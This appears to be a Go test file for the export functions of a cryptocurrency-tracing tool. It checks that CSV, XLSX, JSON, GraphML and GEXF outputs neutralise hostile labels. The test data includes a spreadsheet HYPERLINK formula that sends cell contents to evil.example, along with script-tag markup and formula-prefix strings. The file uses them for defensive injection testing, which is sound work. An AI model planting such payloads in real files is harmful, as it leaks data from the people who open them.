package export

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"flag"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// golden compares got with testdata/name (rewritten with -update).
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./internal/export -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Fatalf("%s differs from the golden file:\n%s", name, got)
	}
}

// hostile are labels from files of others: markup, formula prefixes,
// quotes, separators, line breaks and scripts other than Latin.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	"+1+2", "-2+3", "@SUM(1,2)", "\tTAB", "\rCR",
	`<script>alert("x")</script> & <b>bold</b>`,
	`"quoted", with comma`, "two\nlines",
	"Ransomware Кипар / Qipro ë ç", "_x0041_ literal",
}

func hostileTable() ([]string, [][]string) {
	header := []string{"address", "label", "=amount"}
	var rows [][]string
	for i, h := range hostile {
		rows = append(rows, []string{"bc1qaddress" + string(rune('a'+i)), h, "0.00012345"})
	}
	return header, rows
}

func TestCellSafe(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "plain": "plain", "a=b": "a=b", "'=x": "'=x", " =x": " =x",
	} {
		if got := CellSafe(in); got != want {
			t.Errorf("CellSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCSV(t *testing.T) {
	header, rows := hostileTable()
	var b bytes.Buffer
	if err := CSV(&b, header, rows); err != nil {
		t.Fatal(err)
	}
	golden(t, "table.csv", b.Bytes())
	if !bytes.HasSuffix(b.Bytes(), []byte("\r\n")) {
		t.Fatal("CSV lines do not end in CRLF")
	}
	// Read back: every cell is the guarded cell, nothing lost or split.
	got, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	all := append([][]string{header}, rows...)
	if len(got) != len(all) {
		t.Fatalf("%d records, want %d", len(got), len(all))
	}
	for i := range all {
		for j := range all[i] {
			// encoding/csv drops a carriage return inside quotes.
			want := strings.ReplaceAll(CellSafe(all[i][j]), "\r", "")
			if g := strings.ReplaceAll(got[i][j], "\r", ""); g != want {
				t.Errorf("record %d cell %d = %q, want %q", i, j, g, want)
			}
			if c := got[i][j]; c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("record %d cell %d starts with a formula character: %q", i, j, c)
			}
		}
	}
}

func TestTablesRefuseBadInput(t *testing.T) {
	for name, tc := range map[string]struct {
		header []string
		rows   [][]string
		want   string
	}{
		"no columns":  {nil, nil, "at least one column"},
		"ragged":      {[]string{"a", "b"}, [][]string{{"1"}}, "row 1 has 1 cells"},
		"control":     {[]string{"a"}, [][]string{{"ok"}, {"bell\a"}}, "row 2, column 1 holds the control character U+0007"},
		"not utf8":    {[]string{"a\xff"}, nil, "header, column 1 is not valid UTF-8"},
		"long cell":   {[]string{"a"}, [][]string{{strings.Repeat("x", MaxCellChars+1)}}, "more than a cell holds"},
		"nul in cell": {[]string{"a"}, [][]string{{"a\x00b"}}, "U+0000"},
	} {
		for _, f := range []struct {
			name  string
			write func() error
		}{
			{"csv", func() error { return CSV(io.Discard, tc.header, tc.rows) }},
			{"xlsx", func() error { return XLSX(io.Discard, "s", tc.header, tc.rows, time.Now()) }},
		} {
			err := f.write()
			if err == nil || !IsInvalid(err) || !strings.Contains(err.Error(), tc.want) || !strings.HasPrefix(err.Error(), "export: ") {
				t.Errorf("%s, %s: error %v, want one containing %q", name, f.name, err, tc.want)
			}
		}
	}
}

var xlsxTime = time.Date(2026, 3, 1, 9, 30, 15, 0, time.UTC)

func unzip(t *testing.T, b []byte) map[string]string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, f := range zr.File {
		if !f.Modified.Equal(xlsxTime) {
			t.Errorf("zip entry %s dated %v, want %v", f.Name, f.Modified, xlsxTime)
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name] = string(data)
	}
	return out
}

func TestXLSX(t *testing.T) {
	header, rows := hostileTable()
	write := func(at time.Time) []byte {
		var b bytes.Buffer
		if err := XLSX(&b, "Trace: [1]/2026", header, rows, at); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	one, two := write(xlsxTime), write(xlsxTime)
	if !bytes.Equal(one, two) {
		t.Fatal("two writes of the same table differ")
	}
	if bytes.Equal(one, write(xlsxTime.Add(time.Hour))) {
		t.Fatal("the workbook does not depend on its time")
	}
	files := unzip(t, one)
	sheet := files["xl/worksheets/sheet1.xml"]
	if sheet == "" {
		t.Fatalf("no sheet1.xml in %v", keys(files))
	}
	// Every cell is a shared-string cell; no formula anywhere.
	cells := regexp.MustCompile(`<c [^>]*>`).FindAllString(sheet, -1)
	if len(cells) != len(header)*(len(rows)+1) {
		t.Fatalf("%d cells in the sheet, want %d", len(cells), len(header)*(len(rows)+1))
	}
	for _, c := range cells {
		if !strings.Contains(c, `t="s"`) {
			t.Errorf("cell %s is not a string cell", c)
		}
	}
	for name, content := range files {
		if strings.Contains(content, "<f>") || strings.Contains(content, "<f ") {
			t.Errorf("%s holds a formula", name)
		}
	}
	if pane := regexp.MustCompile(`<pane [^>]*>`).FindString(sheet); !strings.Contains(pane, `state="frozen"`) || !strings.Contains(pane, `ySplit="1"`) || !strings.Contains(pane, `topLeftCell="A2"`) {
		t.Errorf("the first row is not frozen: %s", sheet)
	}
	if !regexp.MustCompile(`<col customWidth="true" max="2" min="2" width="51">`).MatchString(sheet) {
		t.Errorf("no column widths: %s", sheet)
	}
	sst := files["xl/sharedStrings.xml"]
	for _, want := range []string{`&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;`, `>&#39;=HYPERLINK(`, `>&#39;@SUM(1,2)<`, `>&#39;+1+2<`, `>&#39;-2+3<`, `>&#39;=amount<`, `>_x005F_x0041_ literal<`} {
		if !strings.Contains(sst, want) {
			t.Errorf("sharedStrings.xml lacks %q", want)
		}
	}
	if strings.Contains(sst, "<script>") {
		t.Error("markup unescaped in sharedStrings.xml")
	}
	if !regexp.MustCompile(`<b[ />]`).MatchString(files["xl/styles.xml"]) {
		t.Error("no bold font in styles.xml")
	}
	core := files["docProps/core.xml"]
	if !strings.Contains(core, ">2026-03-01T09:30:15Z</dcterms:created>") || !strings.Contains(core, ">2026-03-01T09:30:15Z</dcterms:modified>") {
		t.Errorf("core.xml times: %s", core)
	}
	if !strings.Contains(files["xl/workbook.xml"], `name="Trace_ _1__2026"`) {
		t.Errorf("sheet name: %s", files["xl/workbook.xml"])
	}
	// A spreadsheet reader gets the guarded cells back, text intact.
	f, err := excelize.OpenReader(bytes.NewReader(one))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	got, err := f.GetRows("Trace_ _1__2026", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	all := append([][]string{header}, rows...)
	for i := range all {
		for j := range all[i] {
			if got[i][j] != CellSafe(all[i][j]) {
				t.Errorf("cell %d,%d = %q, want %q", i, j, got[i][j], CellSafe(all[i][j]))
			}
		}
	}
	st, err := f.GetCellStyle("Trace_ _1__2026", "B1")
	if err != nil {
		t.Fatal(err)
	}
	style, err := f.GetStyle(st)
	if err != nil || style.Font == nil || !style.Font.Bold {
		t.Errorf("the header is not bold: %+v %v", style, err)
	}
}

func keys(m map[string]string) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

func TestSheetName(t *testing.T) {
	for in, want := range map[string]string{
		"": "Sheet1", "a:b/c": "a_b_c", "'quoted'": "quoted", strings.Repeat("x", 40): strings.Repeat("x", 31),
		"Трасирање": "Трасирање",
	} {
		if got := SheetName(in); got != want {
			t.Errorf("SheetName(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestBaseToUnits(t *testing.T) {
	for _, c := range []struct {
		base string
		dec  int
		want string
	}{
		{"1500000", 6, "1.5"}, {"0", 18, "0"}, {"1", 18, "0.000000000000000001"}, {"100000000", 8, "1"},
		{"0012", 0, "12"}, {"12a", 2, ""}, {"", 2, ""}, {"123456789", 8, "1.23456789"},
	} {
		if got := BaseToUnits(c.base, c.dec); got != c.want {
			t.Errorf("BaseToUnits(%q, %d) = %q, want %q", c.base, c.dec, got, c.want)
		}
	}
}

func TestJSONCanonical(t *testing.T) {
	a := json.RawMessage(`{"z":1,"a":{"y":"<b>x</b>","b":[3,2,1]},"n":12345678901234567890123,"f":0.10}`)
	b := map[string]any{"n": json.Number("12345678901234567890123"), "f": json.Number("0.10"), "a": map[string]any{"b": []int{3, 2, 1}, "y": "<b>x</b>"}, "z": 1}
	var x, y bytes.Buffer
	if err := JSON(&x, a); err != nil {
		t.Fatal(err)
	}
	if err := JSON(&y, b); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(x.Bytes(), y.Bytes()) {
		t.Fatalf("the same value in two key orders gives\n%s\nand\n%s", x.Bytes(), y.Bytes())
	}
	golden(t, "canonical.json", x.Bytes())
	if strings.Contains(x.String(), "<b>") {
		t.Error("markup unescaped in JSON")
	}
	rows, err := Flatten(a)
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"a.b[0]", "3"}, {"a.b[1]", "2"}, {"a.b[2]", "1"}, {"a.y", "<b>x</b>"}, {"f", "0.10"}, {"n", "12345678901234567890123"}, {"z", "1"}}
	if len(rows) != len(want) {
		t.Fatalf("Flatten: %v", rows)
	}
	for i := range want {
		if rows[i][0] != want[i][0] || rows[i][1] != want[i][1] {
			t.Errorf("Flatten row %d = %v, want %v", i, rows[i], want[i])
		}
	}
}

const txA = "4a5e1e4baab89f3a32518a88c31bc87f618f76673e2cc77ab2127b7afdeda33b"
const txB = "0e3e2357e806b6cdb1f70b54c3a3a17b6714ee1f0e68bebb44a74b1efd512098"

// graphDoc is a saved graph as the web workspace writes it: Bitcoin
// addresses and transactions with hostile labels, an EVM flow.
func graphDoc() map[string]any {
	node := func(kind, ref, network, label string, labels ...string) map[string]any {
		prefix := map[string]string{"address": "a:", "tx": "t:", "entity": "e:"}[kind]
		if labels == nil {
			labels = []string{}
		}
		return map[string]any{"id": prefix + ref, "kind": kind, "ref": ref, "network": network, "label": label, "labels": labels,
			"category": "", "group": "", "entity": "", "time": "", "coinjoin": false, "seed": false, "origin": "", "via": "",
			"note": "", "color": "", "hidden": false, "collapsed": false, "marks": []string{}, "x": 10.5, "y": -3}
	}
	victim := node("address", "bcrt1qvictim0000000000000000000000000000", "regtest", hostile[0], hostile[6], hostile[3])
	victim["category"] = "exchange"
	victim["marks"] = []string{"source"}
	evmA, evmB := "0x52908400098527886E0F7030069857D2E4169EE7", "0x8617E340B3D01FA5F11F306F4090FD50E238070D"
	return map[string]any{
		"format": "vestigo-graph", "version": 1, "created": "2026-03-01T09:00:00.000Z", "case": 7, "group": false,
		"filters": map[string]any{"from": "", "to": "", "min": ""},
		"nodes": []any{
			victim,
			node("tx", txA, "regtest", ""),
			node("address", "bcrt1qmule000000000000000000000000000000", "regtest", "mule <i>1</i>"),
			node("address", evmA, "evm-1337", "Кипар \"exchange\""),
			node("address", evmB, "evm-1337", ""),
		},
		"edges": []any{
			map[string]any{"id": "in|a:bcrt1qvictim0000000000000000000000000000|t:" + txA + "|" + txA, "kind": "in",
				"source": "a:bcrt1qvictim0000000000000000000000000000", "target": "t:" + txA, "amount": 150000000, "time": "2026-02-01T10:00:00Z", "txid": txA, "hop": 0, "marks": []string{}},
			map[string]any{"id": "out|t:" + txA + "|a:bcrt1qmule000000000000000000000000000000|" + txA, "kind": "out",
				"source": "t:" + txA, "target": "a:bcrt1qmule000000000000000000000000000000", "amount": 12345, "time": "2026-02-01T10:00:00Z", "txid": txA, "hop": 1, "marks": []string{"trace"}},
			map[string]any{"id": "flow|a:" + evmA + "|a:" + evmB + "|0x" + txB + "|2", "kind": "flow", "source": "a:" + evmA, "target": "a:" + evmB,
				"amount": 0, "time": "", "txid": "0x" + txB, "hop": 1, "marks": []string{},
				"evm": map[string]any{"asset": 2, "symbol": "USDT", "decimals": 6, "amount": "1500000", "units": "1.5"}},
		},
		"trace": nil,
	}
}

func docBytes(t *testing.T, doc map[string]any) []byte {
	t.Helper()
	b, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// generic XML, to read the exports back without their writers' types.
type xmlNode struct {
	XMLName xml.Name
	Attrs   []xml.Attr `xml:",any,attr"`
	Text    string     `xml:",chardata"`
	Kids    []xmlNode  `xml:",any"`
}

func (n xmlNode) attr(name string) string {
	for _, a := range n.Attrs {
		if a.Name.Local == name {
			return a.Value
		}
	}
	return ""
}

func (n xmlNode) all(local string) []xmlNode {
	var out []xmlNode
	for _, k := range n.Kids {
		if k.XMLName.Local == local {
			out = append(out, k)
		}
		out = append(out, k.all(local)...)
	}
	return out
}

func TestGraphMLAndGEXF(t *testing.T) {
	g, err := ParseGraph(docBytes(t, graphDoc()))
	if err != nil {
		t.Fatal(err)
	}
	if len(g.Nodes) != 5 || len(g.Edges) != 3 {
		t.Fatalf("%d nodes, %d edges", len(g.Nodes), len(g.Edges))
	}
	e := g.Edges[0]
	if e.Amount != "1.5" || e.AmountBase != "150000000" || e.Asset != "BTC" || e.Tx != txA {
		t.Fatalf("edge 1: %+v", e)
	}
	if e := g.Edges[2]; e.Amount != "1.5" || e.AmountBase != "1500000" || e.Asset != "USDT" || g.Nodes[3].Chain != "evm-1337" || g.Nodes[0].Chain != "btc-regtest" {
		t.Fatalf("EVM edge %+v, chains %q %q", e, g.Nodes[3].Chain, g.Nodes[0].Chain)
	}
	if g.Nodes[1].Label != txA {
		t.Fatalf("a node without a label is labelled %q", g.Nodes[1].Label)
	}
	for _, f := range []struct {
		name  string
		write func(io.Writer, *Graph) error
		label func(xmlNode) string
		value func(n xmlNode, key string) string
	}{
		{"graph.graphml", GraphML, func(n xmlNode) string {
			for _, d := range n.all("data") {
				if d.attr("key") == "n_label" {
					return d.Text
				}
			}
			return ""
		}, func(n xmlNode, key string) string {
			for _, d := range n.all("data") {
				if d.attr("key") == "e_"+key {
					return d.Text
				}
			}
			return ""
		}},
		{"graph.gexf", GEXF, func(n xmlNode) string { return n.attr("label") }, func(n xmlNode, key string) string {
			for _, d := range n.all("attvalue") {
				if d.attr("for") == key {
					return d.attr("value")
				}
			}
			return ""
		}},
	} {
		var b, again bytes.Buffer
		if err := f.write(&b, g); err != nil {
			t.Fatal(err)
		}
		if err := f.write(&again, g); err != nil || !bytes.Equal(b.Bytes(), again.Bytes()) {
			t.Fatalf("%s: two writes differ (%v)", f.name, err)
		}
		golden(t, f.name, b.Bytes())
		if strings.Contains(b.String(), "<script>") || strings.Contains(b.String(), "<i>") {
			t.Errorf("%s: markup unescaped", f.name)
		}
		var root xmlNode
		if err := xml.Unmarshal(b.Bytes(), &root); err != nil {
			t.Fatalf("%s: not XML: %v", f.name, err)
		}
		nodes, edges := root.all("node"), root.all("edge")
		if len(nodes) != len(g.Nodes) || len(edges) != len(g.Edges) {
			t.Fatalf("%s: %d nodes, %d edges", f.name, len(nodes), len(edges))
		}
		for i, n := range nodes {
			if n.attr("id") != g.Nodes[i].ID || f.label(n) != g.Nodes[i].Label {
				t.Errorf("%s: node %d id %q label %q, want %q %q", f.name, i, n.attr("id"), f.label(n), g.Nodes[i].ID, g.Nodes[i].Label)
			}
		}
		for i, e := range edges {
			w := g.Edges[i]
			if e.attr("source") != w.Source || e.attr("target") != w.Target || f.value(e, "amount") != w.Amount ||
				f.value(e, "asset") != w.Asset || f.value(e, "tx") != w.Tx || f.value(e, "time") != w.Time {
				t.Errorf("%s: edge %d reads back as %v", f.name, i, e.Attrs)
			}
		}
		if f.name == "graph.graphml" && len(root.all("key")) != len(nodeAttrs)+len(edgeAttrs) {
			t.Errorf("graphml: %d key declarations", len(root.all("key")))
		}
		if f.name == "graph.gexf" && len(root.all("attribute")) != len(nodeAttrs)-1+len(edgeAttrs) {
			t.Errorf("gexf: %d attribute declarations", len(root.all("attribute")))
		}
	}
}

func TestParseGraphRefuses(t *testing.T) {
	for name, c := range map[string]struct {
		edit func(d map[string]any)
		want string
	}{
		"format":         {func(d map[string]any) { d["format"] = "other" }, "not a Vestigo graph"},
		"version":        {func(d map[string]any) { d["version"] = 2 }, "version 2 is not supported"},
		"unknown field":  {func(d map[string]any) { d["extra"] = 1 }, `unknown field "extra"`},
		"node field":     {func(d map[string]any) { node(d, 0)["script"] = "x" }, `unknown field "script"`},
		"kind":           {func(d map[string]any) { node(d, 1)["kind"] = "block" }, "node 2: unknown kind"},
		"id mismatch":    {func(d map[string]any) { node(d, 2)["id"] = "a:other" }, "node 3: id does not match"},
		"bad txid":       {func(d map[string]any) { node(d, 1)["ref"] = "XYZ"; node(d, 1)["id"] = "t:XYZ" }, "node 2.ref: malformed"},
		"control char":   {func(d map[string]any) { node(d, 0)["label"] = "a\x1bb" }, "node 1.label holds the control character U+001B"},
		"label too long": {func(d map[string]any) { node(d, 0)["label"] = strings.Repeat("x", 501) }, "longer than 500"},
		"missing node":   {func(d map[string]any) { edge(d, 0)["target"] = "t:" + txB }, "edge 1: joins a node the document lacks"},
		"edge id":        {func(d map[string]any) { edge(d, 1)["id"] = "x" }, "edge 2: id does not match"},
		"negative":       {func(d map[string]any) { edge(d, 0)["amount"] = -1 }, "edge 1.amount: not a whole number"},
		"fraction":       {func(d map[string]any) { edge(d, 0)["amount"] = 1.5 }, "edge 1.amount: not a whole number"},
		"units":          {func(d map[string]any) { edge(d, 2)["evm"].(map[string]any)["units"] = "15" }, "units do not match"},
		"evm missing":    {func(d map[string]any) { delete(edge(d, 2), "evm") }, "an EVM edge lacks"},
		"0x on btc":      {func(d map[string]any) { node(d, 3)["network"] = "regtest" }, "node 4: a 0x address needs its EVM chain"},
		"mark":           {func(d map[string]any) { node(d, 0)["marks"] = []string{"evil"} }, "unknown mark"},
		"duplicate":      {func(d map[string]any) { d["nodes"] = append(d["nodes"].([]any), node(d, 0)) }, "node 6: duplicate id"},
		"string number":  {func(d map[string]any) { edge(d, 0)["amount"] = "5" }, "edge 1.amount: not a whole number"},
		"string coord":   {func(d map[string]any) { node(d, 0)["x"] = "5" }, "node 1.x: not a coordinate"},
		"wrong type":     {func(d map[string]any) { node(d, 0)["label"] = 5 }, "cannot unmarshal number"},
	} {
		d := graphDoc()
		c.edit(d)
		_, err := ParseGraph(docBytes(t, d))
		if err == nil || !IsInvalid(err) || !strings.Contains(err.Error(), c.want) || strings.Contains(err.Error(), "\n") {
			t.Errorf("%s: error %v, want one line containing %q", name, err, c.want)
		}
	}
	for name, data := range map[string]string{
		"not json": "{", "array": "[]", "two values": `{"format":"vestigo-graph","version":1,"created":"","nodes":[],"edges":[]} {}`,
		"too large": strings.Repeat(" ", MaxGraphBytes+1),
	} {
		if _, err := ParseGraph([]byte(data)); err == nil || !IsInvalid(err) {
			t.Errorf("%s: error %v", name, err)
		}
	}
}

func node(d map[string]any, i int) map[string]any { return d["nodes"].([]any)[i].(map[string]any) }
func edge(d map[string]any, i int) map[string]any { return d["edges"].([]any)[i].(map[string]any) }
